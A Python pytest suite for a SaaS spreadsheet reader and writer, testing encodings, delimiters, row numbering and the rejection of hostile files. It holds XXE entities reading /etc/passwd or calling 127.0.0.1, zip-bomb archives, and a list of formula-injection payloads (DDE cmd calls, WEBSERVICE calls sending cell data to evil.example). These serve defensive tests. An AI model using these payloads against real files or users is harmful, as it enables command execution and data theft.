"""Sheets: what people save reads right, what attackers build is refused with a sentence, what we write comes back."""

from __future__ import annotations

import contextlib
import csv
import datetime
import io
import random
import zipfile
from collections.abc import Sequence
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import xlsxwriter

from saas import child, sheets
from tests.speaking import speaking, speaking_app  # noqa: F401

pytestmark = pytest.mark.usefixtures("speaking")


def read(source: bytes | Path, **asked: object) -> tuple[sheets.Head, list[tuple[int, list[str]]]]:
    """The whole sheet; for tests only."""
    with sheets.read(source, **asked) as sheet:  # type: ignore[arg-type]
        return sheet.head, [(row.number, row.cells) for batch in sheet.batches for row in batch]


def values(source: bytes, **asked: object) -> list[list[str]]:
    """Header and rows."""
    head, rows = read(source, **asked)
    return [head.header, *(cells for _number, cells in rows)]


def refused(source: bytes | Path, **asked: object) -> sheets.Unreadable:
    """How the file is refused."""
    with pytest.raises(sheets.Unreadable) as caught:
        read(source, **asked)
    assert caught.value.sentence[0].isupper()
    assert "%(" not in caught.value.sentence
    return caught.value


def workbook(rows: Sequence[Sequence[object]], **more: Sequence[Sequence[object]]) -> bytes:
    """An XLSX as a spreadsheet program writes it."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        day = book.add_format({"num_format": "yyyy-mm-dd"})
        for title, table in {"Sheet1": rows, **more}.items():
            page = book.add_worksheet(title)
            for r, row in enumerate(table):
                for c, value in enumerate(row):
                    if isinstance(value, datetime.date):
                        page.write_datetime(r, c, value, day)
                    else:
                        page.write(r, c, value)
    return out.getvalue()


def changed(book: bytes, part: str, content: bytes | None = None, **added: bytes) -> bytes:
    """The workbook with one part changed, or more parts in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, content if name == part and content is not None else old.read(name))
        for name, body in added.items():
            new.writestr(name, body)
    return out.getvalue()


def sheet_xml(inside: str, before: str = "") -> bytes:
    """A sheet's own XML."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return (
        f'<?xml version="1.0"?>{before}<worksheet xmlns="{space}"><sheetData>{inside}</sheetData></worksheet>'.encode()
    )


def of_xml(inside: str, before: str = "") -> bytes:
    """A workbook whose sheet is this."""
    return changed(workbook([["a"]]), "xl/worksheets/sheet1.xml", sheet_xml(inside, before))


class TestReadText:
    @pytest.mark.parametrize(
        ("encoding", "found"),
        [
            ("utf-8", "utf-8"),
            ("utf-8-sig", "utf-8-sig"),
            ("utf-16", "utf-16"),
            ("utf-16-le", "utf-16-le"),
            ("utf-16-be", "utf-16-be"),
            ("utf-32", "utf-32"),
            ("gb18030", "gb18030"),
        ],
    )
    def test_reads_chinese_in_every_encoding(self, encoding, found):
        text = "客户名称,city,说明\r\n上海海港有限公司,上海,首次拜访，客户满意\r\nAcme,Beijing,ok\r\n"
        head, rows = read(text.encode(encoding))
        assert head.encoding == found
        assert head.header == ["客户名称", "city", "说明"]
        assert rows == [(2, ["上海海港有限公司", "上海", "首次拜访，客户满意"]), (3, ["Acme", "Beijing", "ok"])]

    @pytest.mark.parametrize("name", ["Müller GmbH", "Société Générale", "Peña “Łódź” – €"])
    def test_reads_western_code_pages(self, name):
        try:
            raw = f"name;city\n{name};Köln\n".encode("cp1252")
        except UnicodeEncodeError:
            name = name.replace("Łó", "Ló").replace("ź", "z")
            raw = f"name;city\n{name};Köln\n".encode("cp1252")
        head, rows = read(raw)
        assert (head.encoding, head.delimiter) == ("cp1252", ";")
        assert rows == [(2, [name, "Köln"])]

    def test_finds_the_one_umlaut_far_down(self):
        raw = b"name,city\n" + b"plain,plain\n" * 200_000 + "Müller,Köln\n".encode("cp1252")
        head, rows = read(raw)
        assert head.encoding == "cp1252"
        assert rows[-1] == (200_002, ["Müller", "Köln"])

    def test_believes_the_user_about_the_encoding(self):
        assert values("名,市\n甲,乙\n".encode("gb18030"), encoding="gb18030")[1] == ["甲", "乙"]
        assert refused("名,市\n甲,乙\n".encode("gb18030"), encoding="utf-8").why == "encoding"

    @pytest.mark.parametrize("mark", [",", ";", "\t", "|"])
    def test_finds_the_delimiter(self, mark):
        raw = f"name{mark}amount{mark}note\nA{mark}1.5{mark}x\nB{mark}2{mark}y\n".encode()
        head, rows = read(raw)
        assert head.delimiter == mark
        assert rows[1] == (3, ["B", "2", "y"])

    def test_is_not_misled_by_commas_in_amounts(self):
        head, rows = read(b"name;amount\nA;1,5\nB;2,25\nC;3,75\n")
        assert head.delimiter == ";"
        assert rows[0][1] == ["A", "1,5"]

    def test_obeys_the_line_that_excel_writes(self):
        head, _rows = read(b"sep=|\r\na|b,c\r\n1|2,3\r\n")
        assert (head.delimiter, head.header, head.header_row) == ("|", ["a", "b,c"], 2)

    def test_takes_quotes_line_breaks_and_one_column(self):
        assert values(b'a,b\r\n"x ""y"", z","two\r\nlines"\r\n')[1] == ['x "y", z', "two\r\nlines"]
        assert values(b"name\nA\nB\n") == [["name"], ["A"], ["B"]]
        assert values(b"a,b\r1,2\r") == [["a", "b"], ["1", "2"]]

    def test_numbers_rows_as_a_spreadsheet_does(self):
        head, rows = read(b"\na,b\n\n1,2\n\n,\n3,4\n")
        assert head.header_row == 2
        assert rows == [(4, ["1", "2"]), (7, ["3", "4"])]

    def test_pads_short_rows_and_keeps_long_ones(self):
        assert values(b"a,b,c\n1\n1,2,3,4\n")[1:] == [["1", "", ""], ["1", "2", "3", "4"]]

    def test_counts_the_rows_that_hold_anything(self):
        text = b'sep=,\na,b\n1,"two\nlines"\n\n,\n3,5" pipe\n'
        head, rows = read(text)
        assert head.rows == len(rows) == 2
        assert read(text, after=3)[0].rows is None  # it is known by then

    def test_resumes_and_previews(self):
        raw = b"n\n" + b"".join(b"%d\n" % n for n in range(2, 2_000))
        assert read(raw, after=1_500)[1][0][0] == 1_501
        assert len(read(raw, most=20)[1]) == 20

    def test_gives_batches_as_they_come(self):
        raw = b"n\n" + b"1\n" * 1_200
        with sheets.read(raw) as sheet:
            assert [len(batch) for batch in sheet.batches] == [500, 500, 200]

    def test_reads_a_file_from_disk(self, tmp_path):
        (tmp_path / "a.csv").write_bytes(b"a\n1\n")
        assert read(tmp_path / "a.csv")[1] == [(2, ["1"])]

    def test_reads_the_real_files(self, shared):
        head, rows = read(shared / "data/b2b-sales/sales_pipeline.csv")
        assert (head.encoding, head.delimiter) == ("utf-8", ",")
        assert len(rows) == 8_800


class TestRefuseText:
    def test_an_unclosed_quote(self):
        error = refused(b'a,b\n1,2\n"x,y\n3,4\n')
        assert (error.why, "row 3" in error.sentence) == ("quote", True)

    def test_a_quote_bomb(self):
        """It ends at the cell's limit, not at the end of the file."""
        assert refused(b'a,b\n1,"' + b"x,y\n" * 20_000).why == "cell"

    def test_a_cell_too_long(self):
        assert refused(b"a,b\n1," + b"x" * 40_000).why == "cell"

    def test_a_line_without_end(self):
        assert refused(b"a," * 5_000_000).why in {"line", "columns"}

    def test_ten_thousand_columns(self):
        error = refused(b",".join(b"c%d" % n for n in range(10_000)) + b"\n")
        assert (error.why, "500" in error.sentence) == ("columns", True)

    def test_a_million_rows(self):
        assert refused(b"a,b\n" + b"1,2\n" * 1_000_000).why == "rows"

    @pytest.mark.parametrize(
        "raw", [b"a,b\n1\x002,3\n", b"\x00" * 2_000, bytes(range(256)) * 9, b"\xff\xfea\x00\x00\x00"]
    )
    def test_nul(self, raw):
        assert refused(raw).why in {"binary", "encoding"}

    @pytest.mark.parametrize("raw", [b"", b"\n\n\n", b"\xef\xbb\xbf", b",,,\n,,\n"])
    def test_nothing(self, raw):
        assert refused(raw).why == "empty"

    @pytest.mark.parametrize(
        "raw",
        [b"<!DOCTYPE html><table><tr><td>1", b"<html>", b'<?xml version="1.0"?><a/>', b"%PDF-1.7\n1,2\n", b"{\\rtf1 }"],
    )
    def test_what_only_calls_itself_a_sheet(self, raw):
        assert refused(raw).why == "kind"

    def test_a_file_too_large(self, monkeypatch):
        monkeypatch.setattr(sheets, "LARGEST", child.MIB)
        assert "1 MB" in refused(b"a\n" * child.MIB).sentence


class TestReadWorkbook:
    def test_reads_values_as_text(self):
        made = datetime.datetime(2026, 3, 4, 10, 30)
        book = workbook(
            [
                ["name", "n", "x", "ok", "day"],
                ["客户", 7, 1234.5, True, datetime.date(2026, 3, 4)],
                ["", 1, 2, False, made],
            ]
        )
        assert values(book)[1] == ["客户", "7", "1234.5", "TRUE", "2026-03-04"]
        assert values(book)[2] == ["", "1", "2", "FALSE", "2026-03-04 10:30:00"]

    def test_shows_numbers_as_the_program_does(self):
        assert values(workbook([["n"], [0.1 + 0.2], [1e15], [1e-7], [-0.5]]))[1:] == [
            ["0.3"],
            ["1000000000000000"],
            ["0.0000001"],
            ["-0.5"],
        ]

    def test_takes_the_result_of_a_formula(self):
        xml = '<row r="1"><c r="A1" t="str"><v>n</v></c></row><row r="2"><c r="A2"><f>1+1</f><v>2</v></c></row>'
        assert values(of_xml(xml)) == [["n"], ["2"]]

    def test_chooses_the_first_sheet_with_rows(self):
        book = workbook([], Data=[["a"], [1]], More=[["b"], [2]])
        head, rows = read(book)
        assert (head.sheets, head.sheet, rows) == (["Sheet1", "Data", "More"], "Data", [(2, ["1"])])
        assert read(book, sheet="More")[0].header == ["b"]
        assert refused(book, sheet="Nope").why == "no_sheet"

    def test_keeps_row_numbers_over_gaps(self):
        xml = "".join(f'<row r="{n}"><c r="B{n}"><v>{n}</v></c></row>' for n in (3, 9, 500))
        head, rows = read(of_xml(xml))
        assert (head.header_row, rows) == (3, [(9, ["", "9"]), (500, ["", "500"])])

    def test_does_not_mind_cells_that_are_only_formatted(self):
        xml = '<row r="1"><c r="A1"><v>1</v></c><c r="XFD1" s="0"/></row><row r="1048576"><c r="A1048576" s="0"/></row>'
        assert values(of_xml(xml)) == [["1"]]


class TestRefuseWorkbook:
    def test_the_far_cell(self):
        book = of_xml('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
        assert len(book) < 8_000
        assert refused(book).why in {"rows", "columns"}
        assert "1048576" in refused(book).sentence

    def test_a_cell_far_to_the_right(self):
        assert refused(of_xml('<row r="1"><c r="XFD1"><v>1</v></c></row>')).why == "columns"

    def test_a_ratio_bomb(self):
        rows = (
            '<row r="1"><c r="A1"><v>1</v></c></row>' + '<row><c t="str"><v>aaaaaaaaaaaaaaaa</v></c></row>' * 2_000_000
        )
        book = of_xml(rows)
        assert len(book) < 400_000
        assert refused(book).why == "bomb"

    def test_a_bomb_of_many_parts(self):
        many = {f"xl/media/{n}.bin": b"0" * 4_000_000 for n in range(70)}
        assert refused(changed(workbook([["a"]]), "", **many)).why == "bomb"

    def test_thousands_of_parts(self):
        many = {f"xl/{n}.xml": b"" for n in range(3_000)}
        assert refused(changed(workbook([["a"]]), "", **many)).why == "bomb"

    def test_a_workbook_in_a_workbook(self):
        inner = workbook([["a"]])
        assert refused(changed(inner, "", **{"xl/embeddings/b.xlsx": inner})).why == "nested"

    def test_parts_that_share_bytes(self):
        """One compressed bomb, named many times in the list, each name pointing at the same bytes."""
        book = bytearray(changed(workbook([["a"]]), "", **{"xl/x1": b"a" * 99, "xl/x2": b"a" * 99}))
        with zipfile.ZipFile(io.BytesIO(bytes(book))) as archive:
            first = archive.getinfo("xl/x1").header_offset
        place = book.rindex(b"xl/x2") - 46 + 42
        book[place : place + 4] = first.to_bytes(4, "little")
        assert refused(bytes(book)).why == "damaged"

    @pytest.mark.parametrize(
        "before",
        [
            '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY x "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
            '<!DOCTYPE w [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x"> %p;]>',
        ],
    )
    def test_entities(self, before):
        inside = '<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>'
        assert refused(of_xml(inside, before)).why == "damaged"

    def test_a_password_or_an_old_kind(self):
        assert refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2_000).why == "old"

    def test_other_archives(self):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("word/document.xml", "<a/>")
        assert refused(out.getvalue()).why == "kind"

    def test_a_sheet_cut_off(self):
        book = workbook([["a"], [1]])
        assert refused(book[: len(book) // 2]).why == "damaged"
        assert refused(of_xml('<row r="1"><c r="A1"><v>1</v>')).why == "damaged"

    @pytest.mark.parametrize(
        "inside",
        [
            '<row r="x"><c r="A1"><v>1</v></c></row>',
            '<row r="1"><c r="?1"><v>1</v></c></row>',
            '<row r="1"><c r="A1" t="s"><v>99</v></c></row>',
            '<row r="1"><c r="A1"><v>abc</v></c></row>',
            '<row r="-5"><c r="A1" t="b"><v>q</v></c></row>',
        ],
    )
    def test_nonsense(self, inside):
        assert refused(of_xml(inside)).why == "damaged"

    def test_random_damage_never_kills_the_reader(self):
        seed = random.randrange(10**6)
        print("seed", seed)
        dice = random.Random(seed)
        book = workbook([["a", "b"], *([n, f"x{n}"] for n in range(50))])
        for _ in range(8):
            hurt = bytearray(book)
            for _ in range(dice.randrange(1, 30)):
                hurt[dice.randrange(len(hurt))] = dice.randrange(256)
            with contextlib.suppress(sheets.Unreadable):
                read(bytes(hurt))
            assert values(b"a\n1\n") == [["a"], ["1"]], f"seed {seed}"

    def test_a_row_of_sixty_thousand_cells_within_the_memory(self):
        book = of_xml('<row r="1">' + "".join(f"<c><v>{n}</v></c>" for n in range(60_000)) + "</row>")
        assert refused(book).why in {"columns", "memory"}


PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example"),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    "'",
    "''",
    "'quoted'",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=",
    "-",
    "+86 138 0013 8000",
    "@handle",
    "- first point",
    '="a"&"b"',
    '=DDE("cmd";"/C calc";"x")',
    '"=1+1"',
    "a,=1+1",
    "a\r\n=1+1",
    "客户=1",
]
DANGER = tuple("=+-@\t\r\n＝＋－＠")


def round_trip(rows: Sequence[Sequence[sheets.Value]]) -> list[list[str]]:
    """Through a CSV of ours and back."""
    return values(b"".join(sheets.csv_lines(["n", "v"], rows)))[1:]


class TestWriteCsv:
    def test_makes_every_payload_inert_and_gives_it_back(self):
        raw = b"".join(sheets.csv_lines(["n", "v"], [["x", payload] for payload in PAYLOADS]))
        seen = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))[1:]
        assert len(seen) == len(PAYLOADS) >= 30
        assert not [cell for _n, cell in seen if cell.startswith(DANGER)]
        assert [row[1] for row in values(raw)[1:]] == PAYLOADS

    def test_makes_headers_inert(self):
        raw = b"".join(sheets.csv_lines(["=1", "ok"], [["a", "b"]]))
        assert b"\n=1" not in raw
        assert raw.decode("utf-8-sig").startswith("'=1,ok")
        assert values(raw)[0] == ["=1", "ok"]

    def test_any_text_comes_back(self):
        seed = random.randrange(10**6)
        print("seed", seed)
        dice = random.Random(seed)
        texts = ["".join(dice.choices("='+-@\t\r\n\"',;| aé客＝", k=dice.randrange(1, 9))) for _ in range(400)]
        assert [row[1] for row in round_trip([["x", text] for text in texts])] == texts, f"seed {seed}"

    def test_writes_values_that_read_the_same_everywhere(self):
        moment = datetime.datetime(2026, 3, 4, 10, tzinfo=ZoneInfo("UTC"))
        rows = [[Decimal("-5.50"), None], [True, datetime.date(2026, 3, 4)], [moment, -7]]
        assert round_trip(rows) == [["-5.50", ""], ["TRUE", "2026-03-04"], ["2026-03-04 10:00:00+00:00", "-7"]]

    def test_streams(self):
        pieces = sheets.csv_lines(["n", "v"], ([n, "x" * 100] for n in range(5_000)))
        assert len([next(pieces) for _ in range(3)]) == 3


class TestWriteXlsx:
    def write(self, header: Sequence[str], rows: Sequence[Sequence[sheets.Value]], **more: str) -> bytes:
        out = io.BytesIO()
        sheets.write_xlsx(out, header, rows, **more)
        return out.getvalue()

    def test_makes_every_payload_text_and_gives_it_back(self):
        book = self.write(["n", "v"], [["x", payload] for payload in PAYLOADS])
        with zipfile.ZipFile(io.BytesIO(book)) as archive:
            xml = archive.read("xl/worksheets/sheet1.xml").decode()
            assert "<f>" not in xml
            assert "<hyperlink" not in xml
            assert not [name for name in archive.namelist() if "external" in name.lower()]
        assert [row[1].replace("\r\n", "\n").replace("\r", "\n") for row in values(book)[1:]] == [
            payload.replace("\r\n", "\n").replace("\r", "\n") for payload in PAYLOADS
        ]

    def test_keeps_numbers_dates_and_long_digits(self):
        long = Decimal("12345678901234567.89")
        rows = [[Decimal("12.50"), datetime.date(2026, 3, 4)], [long, True]]
        assert values(self.write(["a", "b"], rows))[1:] == [["12.5", "2026-03-04"], ["12345678901234567.89", "TRUE"]]

    def test_goes_on_in_a_further_sheet(self, monkeypatch):
        monkeypatch.setattr(sheets, "XLSX_ROWS", 3)
        book = self.write(["n"], [[n] for n in range(5)], title="Ac/me: [x]")
        assert read(book)[0].sheets == ["Ac me   x", "Ac me   x 2", "Ac me   x 3"]
        assert values(book, sheet="Ac me   x 3") == [["n"], ["4"]]

    def test_leaves_out_signs_that_xml_can_not_hold(self):
        assert values(self.write(["n"], [["a\x00\x0bb"]]))[1] == ["ab"]


class TestNothingIsLoaded:
    def test_neither_here_nor_by_importing(self):
        import subprocess
        import sys

        code = "import sys, saas.sheets, saas.pdf, saas.charts, saas.uploads, saas.fetch; print(*sys.modules)"
        loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.split()
        assert not {"openpyxl", "weasyprint", "vl_convert", "xlsxwriter"} & set(loaded)
